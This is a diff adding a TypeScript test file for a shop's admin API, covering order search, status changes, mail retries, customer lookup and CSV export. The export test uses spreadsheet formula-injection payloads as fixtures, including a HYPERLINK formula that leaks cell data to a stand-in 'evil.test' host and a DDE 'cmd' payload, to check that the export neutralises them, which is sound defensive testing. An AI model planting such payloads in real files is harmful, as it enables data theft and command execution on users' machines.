@@ -1,0 +1,274 @@
+import { beforeEach, describe, expect, test } from 'vitest';
+import type { z } from 'zod';
+import { findCustomers } from '#contracts/admin-customers.ts';
+import { discardMail, listMails, resendMail } from '#contracts/admin-mails.ts';
+import {
+  changeOrderStatus,
+  exportOrders,
+  findOrders,
+  getOrder,
+  ORDER_TRANSITIONS,
+} from '#contracts/admin-orders.ts';
+import { ORDER_STATUSES, type Order, placeOrder } from '#contracts/order.ts';
+import { parseCsv } from '#functions/csv/csv.ts';
+import { testDatabase } from '#tests/support/api/database.ts';
+import { member } from '#tests/support/api/members.ts';
+import { orderBody } from '#tests/support/api/order-body.ts';
+import { product } from '#tests/support/api/products.ts';
+import { ask, failureOf, request } from '#tests/support/api/requests.ts';
+import { type RunningApi, runApi, stock } from '#tests/support/api/running-api.ts';
+
+const newTable = testDatabase();
+let shop: RunningApi;
+let open: boolean;
+
+beforeEach(async () => {
+  open = true;
+  const mails: string[] = [];
+  shop = runApi(await newTable(), {
+    sendLetter: async (letter) => {
+      if (!open) throw new Error('The post is closed');
+      mails.push(letter.to);
+      shop.mails.push(letter);
+    },
+  });
+  await stock(shop, [product({ code: 'LL-SF-1', title: 'Hoi An Sofa' })]);
+});
+
+async function placed(day: string, wishes: Parameters<typeof orderBody>[1] = {}, token?: string) {
+  shop.clock.now = new Date(`2026-05-${day}:00:00.000Z`);
+  const body = orderBody(['LL-SF-1'], wishes);
+  return (await ask(shop.app, placeOrder, { body }, token ? { token } : {})).result.number;
+}
+
+async function find(body: z.input<typeof findOrders.body> = {}): Promise<string[]> {
+  const { orders } = (await ask(shop.app, findOrders, { body })).result;
+  return orders.map((order) => order.number);
+}
+
+function move(number: string, from: Order['status'], status: Order['status'], notify = true) {
+  const input = { params: { number }, body: { from, status, notify } };
+  return request(shop.app, changeOrderStatus, input);
+}
+
+describe('finding orders', () => {
+  test('by status and day, newest first, whatever their status', async () => {
+    const one = await placed('05T08');
+    const two = await placed('06T23');
+    const three = await placed('07T08');
+    await move(two, 'pending', 'confirmed');
+    expect(await find()).toEqual([three, two, one]);
+    expect(await find({ status: 'pending' })).toEqual([three, one]);
+    expect(await find({ from: '2026-05-06' })).toEqual([three, two]);
+    expect(await find({ to: '2026-05-06' })).toEqual([two, one]);
+    expect(await find({ from: '2026-05-06', to: '2026-05-06' })).toEqual([two]);
+    expect(await find({ status: 'shipped' })).toEqual([]);
+  });
+
+  test('by number, e-mail or telephone in any spelling, and nothing else', async () => {
+    const one = await placed('05T08');
+    const two = await placed('06T08', { email: 'Mai@Example.com', phone: '0903 123-456' });
+    const all = { one: [one], two: [two], none: [] };
+    for (const [search, expected] of [
+      [one, 'one'],
+      [one.toLowerCase().replaceAll('-', ''), 'one'],
+      ['linh@example.com', 'one'],
+      ['028 3822 1234', 'one'],
+      ['+842838221234', 'one'],
+      ['mai@example.COM', 'two'],
+      ['+84 903 123 456', 'two'],
+      ['nobody@example.com', 'none'],
+      ['0000000000', 'none'],
+      ['Linh', 'none'],
+    ] as const) {
+      expect([search, await find({ search })]).toEqual([search, all[expected]]);
+    }
+    expect(await find({ search: 'linh@example.com', status: 'shipped' })).toEqual([]);
+    expect(await find({ search: 'linh@example.com', from: '2026-05-06' })).toEqual([]);
+  });
+
+  test.each([{}, { search: 'linh@example.com' }, { status: 'pending' as const }])(
+    'page by page gives each once: %j',
+    async (filter) => {
+      const numbers: string[] = [];
+      for (let hour = 10; hour < 20; hour += 1) numbers.push(await placed(`05T${hour}`));
+      const seen: string[] = [];
+      let after: string | undefined;
+      do {
+        const body = { ...filter, limit: 3, ...(after ? { after } : {}) };
+        const { orders, next } = (await ask(shop.app, findOrders, { body })).result;
+        expect(orders.length).toBeLessThanOrEqual(3);
+        seen.push(...orders.map((order) => order.number));
+        after = next;
+      } while (after);
+      expect(seen).toEqual(numbers.toReversed());
+    },
+  );
+
+  test('one whole, or not at all', async () => {
+    const number = await placed('05T08', { note: 'Ring twice' });
+    const { result } = await ask(shop.app, getOrder, { params: { number } });
+    expect(result).toMatchObject({ number, note: 'Ring twice', address: '12 Lê Lợi' });
+    const none = await request(shop.app, getOrder, { params: { number: 'LL-0000-0000' } });
+    expect(await failureOf(none)).toMatchObject({ http: 404, code: 'unknown-order' });
+  });
+});
+
+describe('moving an order on', () => {
+  test('only along the ways there are', async () => {
+    for (const from of ORDER_STATUSES) {
+      for (const status of ORDER_STATUSES) {
+        if (ORDER_TRANSITIONS[from].includes(status)) continue;
+        const response = await move('LL-0000-0000', from, status);
+        expect([from, status, response.status]).toEqual([from, status, 400]);
+      }
+    }
+    const number = await placed('05T08');
+    const way: Order['status'][] = ['confirmed', 'shipped', 'delivered', 'exchange', 'delivered'];
+    let from: Order['status'] = 'pending';
+    for (const status of way) {
+      expect((await move(number, from, status)).status).toBe(200);
+      from = status;
+    }
+    const { result } = await ask(shop.app, getOrder, { params: { number } });
+    expect(result.history.map(({ status }) => status)).toEqual(['pending', ...way]);
+    expect(await find({ status: 'delivered' })).toEqual([number]);
+    expect(await find({ status: 'exchange' })).toEqual([]);
+  });
+
+  test('only from where it was seen, and of several at once one', async () => {
+    const number = await placed('05T08');
+    const responses = await Promise.all([
+      move(number, 'pending', 'confirmed'),
+      move(number, 'pending', 'cancelled'),
+      move(number, 'pending', 'confirmed'),
+    ]);
+    expect(responses.map((response) => response.status).toSorted()).toEqual([200, 409, 409]);
+    expect(await failureOf(await move(number, 'pending', 'confirmed'))).toMatchObject({
+      code: 'status-conflict',
+    });
+  });
+
+  test('the customer reads of it in their language, unless the shop does not want it', async () => {
+    const number = await placed('05T08', { language: 'kr' });
+    shop.mails.length = 0;
+    await move(number, 'pending', 'confirmed');
+    expect(shop.mails.map(({ to, subject }) => [to, subject])).toEqual([
+      ['linh@example.com', `주문(${number})이 확정되었습니다`],
+    ]);
+    await move(number, 'confirmed', 'shipped', false);
+    expect(shop.mails).toHaveLength(1);
+  });
+});
+
+describe('the export for a spreadsheet', () => {
+  test('has every field, and no cell that a spreadsheet would run', async () => {
+    const evil = `=HYPERLINK("http://evil.test?"&A1,"x")`;
+    const number = await placed('05T08', {
+      firstName: evil,
+      lastName: '@SUM(1)',
+      address: '+1',
+      city: '-1+1',
+      note: `=cmd|' /C calc'!A0\nand "more", text`,
+      cart: [{ code: 'LL-SF-1', request: '=1+1' }],
+    });
+    const { csv, count, next } = (await ask(shop.app, exportOrders, { body: {} })).result;
+    expect(count).toBe(1);
+    expect(next).toBeUndefined();
+    expect(csv.startsWith('\uFEFFnumber,createdAt,status,')).toBe(true);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`);
+    // No cell begins with a sign that makes it a formula.
+    expect(csv.split(/\r\n/)[1]).not.toMatch(/(?:^|,)"?[=+\-@]/);
+    const [head, row] = parseCsv(csv) ?? [];
+    const cells = Object.fromEntries(
+      (head?.cells ?? []).map((name, index) => [name, row?.cells[index]]),
+    );
+    expect(cells).toMatchObject({
+      number,
+      status: 'pending',
+      firstName: evil,
+      phone: '+84 28 3822 1234',
+      pieces: '1 x LL-SF-1 Hoi An Sofa',
+      requests: 'LL-SF-1: =1+1',
+      sumQuantity: '1',
+      language: 'en',
+    });
+  });
+
+  test('narrows by status and day', async () => {
+    await placed('05T08');
+    const later = await placed('07T08');
+    const body = { from: '2026-05-06', status: 'pending' } as const;
+    const { csv, count } = (await ask(shop.app, exportOrders, { body })).result;
+    expect(count).toBe(1);
+    expect(csv).toContain(later);
+  });
+});
+
+describe('mails that could not be sent', () => {
+  const listed = async (state: 'failed' | 'waiting') =>
+    (await ask(shop.app, listMails, { query: { state } })).result.mails;
+
+  async function failedMail() {
+    open = false;
+    const number = await placed('05T08');
+    for (let day = 0; day < 4 * 24; day += 1) {
+      shop.clock.now = new Date(shop.clock.now.getTime() + 60 * 60_000);
+      await shop.app.sendMails();
+    }
+    return number;
+  }
+
+  test('are shown with what happened, not with what they say, and can be sent again', async () => {
+    const number = await failedMail();
+    const [mail, other] = await listed('failed');
+    expect([mail?.kind, other?.kind].toSorted()).toEqual(['order-placed', 'order-received']);
+    expect(mail).toMatchObject({
+      order: number,
+      attempts: 8,
+      state: 'failed',
+      lastError: 'Error: The post is closed',
+    });
+    const params = { id: mail?.id ?? '' };
+    expect((await ask(shop.app, resendMail, { params })).result).toEqual({ sent: false });
+    expect(await listed('waiting')).toMatchObject([{ id: mail?.id, attempts: 1 }]);
+    open = true;
+    expect((await ask(shop.app, resendMail, { params })).result).toEqual({ sent: true });
+    expect(shop.mails.at(-1)).toMatchObject({ id: mail?.id, to: mail?.to });
+    expect(await failureOf(await request(shop.app, resendMail, { params }))).toMatchObject({
+      http: 404,
+      code: 'unknown-mail',
+    });
+    expect((await listed('failed')).map(({ id }) => id)).toEqual([other?.id]);
+    await ask(shop.app, discardMail, { params: { id: other?.id ?? '' } });
+    expect(await listed('failed')).toEqual([]);
+  }, 60_000);
+});
+
+describe('customers', () => {
+  const found = async (body: z.input<typeof findCustomers.body>) =>
+    (await ask(shop.app, findCustomers, { body })).result;
+
+  test('are found by address, id, telephone or order number, and listed newest first by pages', async () => {
+    const members = [];
+    for (let minute = 0; minute < 5; minute += 1) {
+      shop.clock.now = new Date(shop.clock.now.getTime() + 60_000);
+      members.push(await member(shop));
+    }
+    const [one] = members;
+    const number = await placed('05T09', {}, one?.token ?? '');
+    const own = one?.user._id;
+    for (const search of [one?.user.email.toUpperCase(), own, number, '028 3822 1234']) {
+      const { customers } = await found({ search });
+      expect([search, customers.map(({ _id }) => _id)]).toEqual([search, [own]]);
+    }
+    expect((await found({ search: 'nobody@example.com' })).customers).toEqual([]);
+    const first = await found({ limit: 3 });
+    const second = await found({ limit: 3, ...(first.next ? { after: first.next } : {}) });
+    expect(second.next).toBeUndefined();
+    expect([...first.customers, ...second.customers].map(({ _id }) => _id)).toEqual(
+      members.map(({ user }) => user._id).toReversed(),
+    );
+    expect(JSON.stringify(first)).not.toMatch(/argon2|epoch/);
+  });
+});
